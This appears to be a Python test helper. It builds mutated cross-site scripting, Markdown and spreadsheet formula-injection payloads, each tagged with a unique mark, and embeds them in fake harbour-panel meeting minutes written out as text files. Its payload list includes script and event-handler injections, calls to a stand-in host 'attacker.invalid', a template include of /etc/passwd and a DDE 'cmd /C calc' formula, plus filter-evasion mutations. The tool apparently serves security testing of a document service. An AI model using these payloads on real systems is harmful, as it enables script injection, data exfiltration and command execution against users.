"""Words that are made to act where they are shown, and papers that hold them in every place that papers have.

``payloads`` mutates the known ways of getting a browser, a Markdown reader or a spreadsheet to do something: other
letters, encodings, white space and control characters in the middle, things left open, things put into each other.
Each holds a mark of its own, so that it can be found again.
"""

from __future__ import annotations

import html
import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

MARK = "zxq"
"""Begins the mark of each; it stands in no page of the service by itself."""
_BASES = (
    "<script>alert('{m}')</script>",
    "<img src=x onerror=alert('{m}')>",
    "<svg/onload=alert('{m}')>",
    "<svg><script xlink:href='http://attacker.invalid/{m}.js'></script></svg>",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<iframe src='javascript:alert(`{m}`)'></iframe>",
    "<iframe srcdoc='<script>{m}</script>'></iframe>",
    "<a href='javascript:alert(`{m}`)'>{m}</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4=' title={m}>x</a>",
    "<object data='http://attacker.invalid/{m}'></object>",
    "<embed src='http://attacker.invalid/{m}'>",
    "<link rel=stylesheet href='http://attacker.invalid/{m}.css'>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid/{m}'>",
    "<base href='http://attacker.invalid/{m}/'>",
    "<form action='http://attacker.invalid/{m}'><input name=q autofocus onfocus=alert(1)></form>",
    "<style>@import 'http://attacker.invalid/{m}.css';</style>",
    "<div style='background:url(http://attacker.invalid/{m})'>{m}</div>",
    "<details open ontoggle=alert('{m}')>{m}</details>",
    "<video><source onerror=alert('{m}')></video>",
    "<body onload=alert('{m}')>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(`{m}`)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(`{m}`)>'>",
    "</title><script>{m}</script>",
    "</style><script>{m}</script>",
    "</textarea><script>{m}</script>",
    "</script><script>{m}</script>",
    "]]><script>{m}</script>",
    "--><script>{m}</script><!--",
    "' onmouseover='alert(`{m}`)",
    '" autofocus onfocus="alert(`{m}`)',
    '"><img src=x onerror=alert(`{m}`)>',
    "![{m}](http://attacker.invalid/p.png?q={m})",
    "[{m}](javascript:alert(1))",
    "[{m}](data:text/html;base64,PHNjcmlwdD4=)",
    "[{m}][r]\n\n[r]: javascript:alert(1) '{m}'",
    "<javascript:{m}>",
    "<http://attacker.invalid/{m}>",
    "`` ` ``<img src=x onerror={m}>`",
    "{{{{7*7}}}} {{% include '/etc/passwd' %}} {m}",
    '=HYPERLINK("http://attacker.invalid/?{m}";A1)',
    "+1+1 {m}",
    "-2+3 {m}",
    "@SUM(1) {m}",
    "\t=1 {m}",
    "=cmd|' /C calc'!A0 {m}",
)
_SPACES = ("\t", "\u00a0", "\u2028", "\u200b", "\u00ad", "/")


def payloads(n: int, seed: int) -> list[str]:
    """So many, all different, on one line each; the first ones are as they are known, the others are mutated."""
    chance = random.Random(seed)
    made = []
    for number in range(n):
        words = _BASES[number % len(_BASES)].format(m=mark(number))
        if number >= len(_BASES):
            for mutate in chance.sample(_MUTATIONS, chance.randint(1, 2)):
                words = mutate(words, chance)
        made.append(words.replace("\n", " "))
    return made


def mark(number: int) -> str:
    """The mark of the payload of that number: letters, so that no mutation of signs hides it."""
    return MARK + "".join("abcdefghij"[int(digit)] for digit in f"{number:05d}")


def _other_letters(words: str, chance: random.Random) -> str:
    outside = words.split(MARK)
    return MARK.join("".join(c.upper() if chance.random() < 0.5 else c for c in part) for part in outside)


def _spaced(words: str, chance: random.Random) -> str:
    return words.replace(" ", chance.choice(_SPACES))


def _broken_scheme(words: str, chance: random.Random) -> str:
    sign = chance.choice(["\t", "&#9;", "&Tab;", "\u200b", "%09"])
    return words.replace("javascript:", f"java{sign}script:")


def _as_entities(words: str, chance: random.Random) -> str:
    return html.escape(words, quote=True) if chance.random() < 0.5 else words.replace("<", "&#x3c;")


def _twice(words: str, chance: random.Random) -> str:
    return html.escape(html.escape(words))


def _left_open(words: str, chance: random.Random) -> str:
    return words[:-1] if words.endswith(">") else f"{words}<"


def _in_each_other(words: str, chance: random.Random) -> str:
    return words.replace("<s", "<s<s", 1).replace("script>", "scr<b>ipt>", 1)


def _wide(words: str, chance: random.Random) -> str:
    return words.replace("<", chance.choice(["\uff1c", "\u2039<", "<\u0000<", "%3C", "\\<", "\\u003c"]))


def _quoted(words: str, chance: random.Random) -> str:
    return chance.choice(["\"'>{}", "*{}*", "**_{}_**", "[{}](x)", "| {} |", "> {}", "# {}"]).format(words)


_MUTATIONS: Sequence[Callable[[str, random.Random], str]] = (
    _other_letters,
    _spaced,
    _broken_scheme,
    _as_entities,
    _twice,
    _left_open,
    _in_each_other,
    _wide,
    _quoted,
)


@dataclass(frozen=True)
class HostilePaper:
    """A paper that was written, with a plain word by which it is found, and what it holds."""

    name: str
    word: str
    held: tuple[str, ...]


def write_hostile_papers(folder: Path, words: Sequence[str]) -> list[HostilePaper]:
    """Papers of ten payloads each, in the name, the title, headings, paragraphs, promises and resolutions."""
    folder.mkdir(parents=True)
    return [
        _write(folder, number, tuple(words[start : start + 10]))
        for number, start in enumerate(range(0, len(words), 10))
    ]


def _write(folder: Path, number: int, held: tuple[str, ...]) -> HostilePaper:
    word = "Wex" + "".join("bcdfghjklm"[int(digit)] for digit in f"{number:04d}")
    of = _filled(held)
    text = f"""NORSEY HARBOUR PANEL {next(of)}

Minutes of the meeting held on {1 + number % 28} March {2000 + number // 28} in the Council Chamber {next(of)}

Present: Councillor A. Lindqvist (Chair), Councillor {next(of)}

12. Repairs of the {word} quay {next(of)}

The Panel considered a report about repairs of the {word} quay, which said that {next(of)} was to be repaired.

Mr Tarrant {next(of)} undertook to report on the {word} quay to the next meeting.

RESOLVED:

(a) That the {word} quay {next(of)} be repaired by the end of June 2031.

(b) That £18,500 be taken from the reserve {next(of)} for the {word} quay.

13. {next(of)}

The Panel recommended that the {word} quay be closed in {next(of)} April 2031.
"""
    name = _file_name(held[0], number)
    (folder / name).write_text(text.replace("\x00", ""), "utf-8")
    return HostilePaper(name, word, held)


def _filled(held: tuple[str, ...]) -> Iterator[str]:
    while True:
        yield from held


def _file_name(words: str, number: int) -> str:
    plain = words.replace("/", "").replace("\x00", "").strip()
    return f"{plain[:60]} {number}.txt"
